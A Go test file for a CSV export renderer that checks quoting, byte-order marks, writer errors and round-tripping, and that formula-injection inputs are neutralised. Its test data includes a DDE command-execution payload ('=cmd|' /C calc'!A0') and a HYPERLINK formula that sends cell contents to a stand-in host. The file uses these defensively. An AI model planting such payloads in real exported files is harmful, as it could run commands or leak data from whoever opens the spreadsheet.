package csv

import (
	"bytes"
	stdcsv "encoding/csv"
	"errors"
	"io"
	"strings"
	"testing"

	"afterword/backend/document"
)

func render(t testing.TB, s document.Sheet, o Options) string {
	t.Helper()
	var out bytes.Buffer
	if err := Render(&out, s, o); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

func TestForm(t *testing.T) {
	s := document.Sheet{Columns: []string{"a", "b, c"}, Rows: [][]string{{`say "so"`, ""}, {"two\r\nlines", " blank "}, {"äöü 日本", "x;y"}}}
	want := "a,\"b, c\"\r\n\"say \"\"so\"\"\",\r\n\"two\nlines\",\" blank \"\r\näöü 日本,\"x;y\"\r\n"
	if got := render(t, s, Options{}); got != want {
		t.Errorf("got  %q\nwant %q", got, want)
	}
	if got := render(t, s, Options{Mark: true}); got != "\uFEFF"+want {
		t.Errorf("with a mark: %q", got)
	}
}

func TestFormulasAreDefused(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+1": "'+1", "-5 min": "'-5 min", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\n=1", "\n=1": "'\n=1",
		" =1": "' =1", "\u00a0=1": "'\u00a0=1", "\u200b=1": "'\u200b=1", "\u202e=1": "'=1", "＝1": "'＝1", "－1": "'－1",
		`=HYPERLINK("https://example.org/?"&A1)`: `'=HYPERLINK("https://example.org/?"&A1)`, "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
		"a=1": "a=1", "1-2": "1-2", "'=1": "'=1", "": "", "\x00=1": "\uFFFD=1", "(=1)": "(=1)",
	} {
		if got := defused(clean(in)); got != want {
			t.Errorf("%q: got %q, want %q", in, got, want)
		}
	}
}

type broken struct{}

func (broken) Write([]byte) (int, error) { return 0, io.ErrClosedPipe }

func TestErrorsOfTheWriterAreGiven(t *testing.T) {
	if err := Render(broken{}, document.Sheet{Columns: []string{"a"}}, Options{}); !errors.Is(err, io.ErrClosedPipe) {
		t.Errorf("got %v", err)
	}
}

// What is written is read back by an ordinary reader as what it was, but for
// what is changed by intent; and no cell begins like a formula.
func FuzzRoundTrip(f *testing.F) {
	for _, s := range []string{"", "a", "=1", "a,b", `"`, "\r\n", "\x00", "\ufeff", "é\xff", " x", "\t", "a\n\n\"b\"", "\u202e=1"} {
		f.Add(s, s+"x")
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		text := render(t, document.Sheet{Columns: []string{"one", "two"}, Rows: [][]string{{a, b}, {b, a}}}, Options{})
		rows, err := stdcsv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil {
			t.Fatalf("%q cannot be read: %v", text, err)
		}
		want := [][]string{{defused(clean(a)), defused(clean(b))}, {defused(clean(b)), defused(clean(a))}}
		if len(rows) != 3 {
			t.Fatalf("%d rows of %q", len(rows), text)
		}
		for i, row := range want {
			for k, cell := range row {
				got := rows[i+1][k]
				if got != cell {
					t.Fatalf("%q came back as %q", cell, got)
				}
				if got != "" && strings.ContainsAny(got[:1], "=+-@\t\r\n") {
					t.Fatalf("%q begins like a formula", got)
				}
			}
		}
	})
}
